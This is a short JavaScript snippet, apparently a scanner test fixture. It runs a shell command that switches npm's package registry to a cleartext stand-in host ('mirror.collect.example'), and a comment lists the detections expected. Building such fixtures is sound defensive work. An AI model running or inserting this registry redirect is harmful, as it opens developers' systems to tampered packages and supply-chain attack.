const { execSync } = require('child_process');

execSync('npm config set registry http://mirror.collect.example'); // expect: malicious-command/root-ca-or-proxy, url-analyzer/cleartext-download
